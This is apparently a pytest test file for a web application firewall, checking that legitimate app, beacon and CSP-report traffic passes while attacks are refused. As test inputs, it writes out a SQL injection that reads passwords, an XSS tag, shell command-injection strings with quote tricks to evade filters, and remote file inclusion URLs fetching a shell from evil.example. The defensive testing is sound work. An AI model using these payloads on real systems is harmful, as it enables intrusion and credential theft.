"""WAF, whole requests of the eleventh round (a fresh corpus of 700 browser,
app, SDK, webhook and beacon requests written for it, measured before any
change: 34 refused by a rule and 36 by shape, of 700) through the real
edge (shipped config, bans off), on the catch-all route a public site's
traffic reaches. Each class with the attack in the same syntax:

- a JSON document's key is an app's data ("session_id" in an analytics
  event from an app that sends no Referer); a framework's own session
  name there ("PHPSESSID", "jsessionid") from another site is still a
  fixation attempt; a leading "_sid" (a shop's search tracking) is no
  compound session name, "connect.sid" is;
- a text/plain body that is a JSON document (sendBeacon, the Reporting
  API) is read as JSON: no 400 for "an argument name is too long", and
  an attack in one of its values is refused;
- JSON's other media types (application/*+json, application/csp-report)
  are taken and parsed as JSON (they were refused with 415);
- an apostrophe inside a word that a space follows before any closing
  quote ("I'd like ...") makes no command name ("id"): the shell's word
  goes on to the closing quote.
"""
import json
import uuid

import pytest
import requests

from wafkit import WafEdge, waf_config

CONF = waf_config()
APP = {"User-Agent": "okhttp/4.12.0", "Content-Type": "application/json"}
FOREIGN = {"Referer": "https://other.example/page"}


@pytest.fixture(scope="module")
def edge(tmp_path_factory):
    e = WafEdge(tmp_path_factory.mktemp("waf-traffic"), CONF).start()
    yield e
    e.stop()


@pytest.fixture(autouse=True)
def no_lua_errors(edge):
    yield
    bad = edge.error_lines("error") + edge.error_lines("crit")
    assert not bad, "\n".join(bad)


def post(edge, body, headers, path="/api/v1/events"):
    rid = "traffic-" + uuid.uuid4().hex
    data = body if isinstance(body, (str, bytes)) else json.dumps(body)
    r = requests.post(edge.url + path, data=data, headers={**headers, "X-Request-ID": rid})
    return r.status_code, rid


@pytest.mark.parametrize("key", ["session_id", "sessionId", "sid", "session"])
def test_a_session_key_in_an_apps_json_passes(edge, key):
    status, rid = post(edge, {"event": "app_open", key: "3f9a2c41", "ts": 1717000000}, APP)
    assert status == 404, (key, status)


@pytest.mark.parametrize("key", ["PHPSESSID", "jsessionid", "ASP.NET_SessionId", "connect.sid"])
def test_a_frameworks_session_name_in_json_from_another_site_is_refused(edge, key):
    status, rid = post(edge, {key: "abc123"}, {**APP, **FOREIGN})
    assert status == 403, key
    assert "session-fixation" in [m["rule"] for m in edge.audit_for(rid)["matches"]]


def test_a_leading_sid_is_tracking_and_a_compound_one_a_session(edge):
    r = requests.get(edge.url + "/products/mug?_pos=3&_sid=a1b2c3d4e&_ss=r", headers=FOREIGN)
    assert r.status_code == 404
    r = requests.get(edge.url + "/p?connect.sid=abc123", headers=FOREIGN)
    assert r.status_code == 403


BEACON = {"type": "web-vital", "name": "LCP", "value": 2310.5,
          "url": "https://shop.example/products/mug?utm_source=news&utm_medium=email",
          "session": {"id": "b8b66e56", "view": 3}}


@pytest.mark.parametrize("ct", ["text/plain;charset=UTF-8", "text/plain", None])
def test_a_json_beacon_sent_as_text_is_read_as_json(edge, ct):
    headers = {"User-Agent": "Mozilla/5.0"}
    if ct:
        headers["Content-Type"] = ct
    status, _ = post(edge, BEACON, headers, "/rum")
    assert status == 404, ct
    attack = dict(BEACON, name="x' union select password from users--")
    status, rid = post(edge, attack, headers, "/rum")
    assert status == 403, ct
    assert any(m["rule"].startswith("sqli") for m in edge.audit_for(rid)["matches"])


@pytest.mark.parametrize("ct", ["application/merge-patch+json", "application/vnd.api+json",
                                "application/reports+json", "application/csp-report"])
def test_jsons_other_media_types_are_parsed(edge, ct):
    doc = {"csp-report": {"document-uri": "https://shop.example/cart",
                          "violated-directive": "img-src", "status-code": 200}}
    status, _ = post(edge, doc, {"Content-Type": ct}, "/report")
    assert status == 404, ct
    status, _ = post(edge, "{not json", {"Content-Type": ct}, "/report")
    assert status == 400, ct
    status, rid = post(edge, {"title": "<script>alert(1)</script>"}, {"Content-Type": ct},
                       "/report")
    assert status == 403, ct


@pytest.mark.parametrize("value", [
    "To whom it may concern,\r\n\r\nI'd like to request deletion of my data.\r\n\r\nRegards",
    "it's fine\nI'd like it anyway",
    "Thanks!\r\nI'd love a refund, it's broken",
])
def test_a_contraction_after_a_line_break_is_no_command(edge, value):
    status, rid = post(edge, {"message": value}, APP, "/contact")
    assert status == 404, (value, status)


@pytest.mark.parametrize("value", ["x;i'd", "x && i'd'", "x;i'd' -u", "1;wh'oami", "a|'id' -u"])
def test_quoted_command_words_still_refused(edge, value):
    status, rid = post(edge, {"message": value}, APP, "/contact")
    assert status == 403, value


def test_a_csp_reports_source_file_is_a_url_it_names(edge):
    doc = {"csp-report": {"document-uri": "https://shop.example/cart",
                          "source-file": "https://cdn.example/app.3f2a.js",
                          "blocked-uri": "https://ads.example/t.js", "line-number": 12}}
    status, _ = post(edge, doc, {"Content-Type": "application/csp-report"}, "/csp-report")
    assert status == 404
    for name in ("file", "template_file", "page[include]"):
        r = requests.get(edge.url + "/index.php",
                         params={name: "http://evil.example/shell.txt"})
        assert r.status_code == 403, name
